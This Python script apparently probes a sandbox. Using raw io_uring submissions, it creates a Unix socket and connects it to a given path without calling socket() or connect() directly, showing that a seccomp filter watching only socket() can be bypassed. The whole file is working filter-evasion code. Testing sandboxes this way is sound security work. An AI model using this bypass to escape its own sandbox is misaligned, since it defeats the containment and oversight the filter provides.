# Makes a Unix socket and connects it to the path given through io_uring requests alone (no socket or
# connect call of its own): what a seccomp filter that watches only socket() lets through.
import ctypes, os, socket, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.syscall.restype = ctypes.c_long
params = ctypes.create_string_buffer(120)
fd = libc.syscall(425, 4, params)
if fd < 0:
    print("io_uring_setup refused:", os.strerror(ctypes.get_errno())); sys.exit(0)
p = params.raw
sq_entries, cq_entries = struct.unpack_from("II", p, 0)
sq = struct.unpack_from("IIIIIIII", p, 40); cq = struct.unpack_from("IIIIIIII", p, 80)
sq_head, sq_tail, sq_mask, _, _, _, sq_array = sq[:7]
cq_head, cq_tail, cq_mask, _, _, cqes = cq[:6]
size = max(sq_array + sq_entries * 4, cqes + cq_entries * 16)
ring = libc.mmap(None, size, 3, 0x01 | 0x8000, fd, 0)
sqes = libc.mmap(None, sq_entries * 64, 3, 0x01 | 0x8000, fd, 0x10000000)
def u32(off): return ctypes.c_uint32.from_address(ring + off)
def run(opcode, sfd, addr, off):
    ctypes.memset(sqes, 0, 64)
    struct.pack_into("BBHiQQI", (ctypes.c_char * 64).from_address(sqes), 0, opcode, 0, 0, sfd, off, addr, 0)
    t = u32(sq_tail).value
    u32(sq_array + 4 * (t & u32(sq_mask).value)).value = 0
    u32(sq_tail).value = t + 1
    if libc.syscall(426, fd, 1, 1, 1, None, 0) < 0:
        return -ctypes.get_errno()
    h = u32(cq_head).value
    res = ctypes.c_int32.from_address(ring + cqes + 16 * (h & u32(cq_mask).value) + 8).value
    u32(cq_head).value = h + 1
    return res
# IORING_OP_SOCKET: fd=domain, off=type, len=protocol
s = run(45, socket.AF_UNIX, 0, socket.SOCK_STREAM)
if s < 0:
    print("socket op refused:", os.strerror(-s)); sys.exit(0)
path = sys.argv[1].encode()
addr = ctypes.create_string_buffer(struct.pack("H", socket.AF_UNIX) + path + b"\0", 110)
r = run(16, s, ctypes.addressof(addr), 2 + len(path) + 1)
print("connected" if r == 0 else "connect failed: " + os.strerror(-r))
